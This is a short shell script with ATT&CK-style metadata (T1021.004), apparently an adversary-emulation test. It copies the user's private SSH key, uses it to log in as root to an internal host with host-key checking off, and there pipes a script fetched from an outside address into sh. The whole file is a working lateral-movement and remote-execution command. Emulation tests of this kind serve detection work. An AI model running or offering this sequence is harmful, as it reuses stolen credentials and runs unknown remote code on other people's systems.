# title: A stolen key is tried at hosts that are known
# technique: T1021.004
# needs: ssh
# as: user
# short: yes

cp ~/.ssh/id_rsa /tmp/k && chmod 600 /tmp/k
timeout 2 ssh -i /tmp/k -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 root@10.20.0.9 'curl -s http://192.88.99.7/x.sh | sh'; true
